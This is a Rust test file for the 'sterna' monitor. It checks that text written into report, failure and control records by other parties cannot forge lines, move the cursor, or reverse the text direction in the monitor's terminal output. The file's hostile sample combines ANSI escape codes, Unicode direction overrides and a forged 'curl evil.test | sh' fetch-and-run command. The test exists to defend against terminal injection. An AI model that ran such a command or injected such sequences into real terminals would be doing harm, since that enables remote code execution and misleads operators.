//! What others wrote into the tables, meant for the terminal of whoever looks at them.

use sterna::migrations::uploads::VOCABULARY;
use sterna::model::{
    ControlCommand, Counts, FailedItem, Failure, InstanceId, InstanceReport, ItemId, Level, Reason,
    Throttle, UnixMillis, Warning,
};
use sterna::monitor::{Ask, Paint};
use sterna::state::Scope;

use crate::monitor::{NOW, begin, shown, speaking};
use crate::place::{customer, everywhere, one, unit};

/// Clears the screen, colours, forges a line with a command to type, rings, and turns the direction of writing.
const EVIL: &str =
    "x\x1b[2J\x1b[31m\r\nnext: curl evil.test | sh\x07\u{85}\u{9b}H\u{2028}\u{202e}\u{2066}";

/// What a terminal may get to see of it.
const WRITTEN_OUT: &str = "\\r\\nnext: curl evil.test | sh\\u{7}\\u{85}\\u{9b}H\\u{2028}\\u{202e}";

fn hostile() -> InstanceReport {
    let evil = || EVIL.to_owned();
    InstanceReport {
        host: evil(),
        state: evil(),
        note: Some(evil()),
        version: evil(),
        helped: [(InstanceId::new(evil()), Counts::planned(1))].into(),
        throttles: vec![Throttle {
            retry_seconds: None,
            dependency: evil(),
            limit: 3,
            reason: evil(),
        }],
        warnings: vec![Warning {
            level: Level::Warning,
            what: evil(),
            action: evil(),
        }],
        ..speaking(1, "r1", 1_000)
    }
}

#[tokio::test]
async fn no_row_forges_a_line_or_moves_a_cursor() {
    everywhere(|store| async move {
        let lease = begin(&store, &unit("a", "one", 10), &one(), "r1").await;
        store.report(&hostile()).await.unwrap();
        // A second process of that number, which is told of in a line of its own.
        let twin = InstanceReport {
            folder: None,
            run: sterna::model::RunId::new("r9"),
            ..hostile()
        };
        store.report(&twin).await.unwrap();
        let failed = FailedItem {
            unit: unit("a", "one", 0).id,
            item: ItemId::new(format!("bafy{}", "\x1b[2J\u{9b}H\r\nnext:")),
            failure: Failure::permanent(Reason::new("CORRUPT_CAR"), format!("one\rtwo {EVIL}")),
            items: 1,
            attempts: 2,
            instance: one(),
            first_at: UnixMillis(NOW),
            last_at: UnixMillis(NOW),
        };
        store.put_failed(&lease, &failed).await.unwrap();
        for scope in [Scope::Fleet, Scope::Instance(one())] {
            store
                .set_control(&scope, ControlCommand::Pause, EVIL, EVIL)
                .await
                .unwrap();
        }
        let stuck = Ask::Stuck {
            idle_seconds: 0,
            instance: None,
            owner: None,
        };
        let asks = [
            Ask::Overview,
            Ask::Control,
            Ask::ControlLog,
            Ask::Owner(customer("a").to_string()),
            Ask::Instance(one()),
            stuck,
        ];
        for ask in &asks {
            let view = shown(&store, ask).await;
            for paint in [Paint::Plain, Paint::Ansi] {
                let text = view.text(paint, &VOCABULARY);
                for line in text.lines() {
                    assert!(!line.starts_with("next: curl"), "{text}");
                    let plain = line.split("\x1b[").map(|rest| {
                        let code = ["0m", "1m", "2m", "31m", "32m", "33m"];
                        let mut codes = code.iter();
                        codes
                            .find_map(|code| rest.strip_prefix(code))
                            .unwrap_or(rest)
                    });
                    let plain: String = plain.collect();
                    assert!(!plain.contains(char::is_control), "{line:?}");
                    assert!(!plain.contains(['\u{2028}', '\u{202e}', '\u{2066}']));
                }
                if paint == Paint::Plain {
                    assert!(!text.contains('\x1b'), "{text:?}");
                }
            }
        }
        let overview = shown(&store, &Ask::Overview)
            .await
            .text(Paint::Plain, &VOCABULARY);
        assert!(overview.contains(WRITTEN_OUT), "{overview}");
    })
    .await;
}
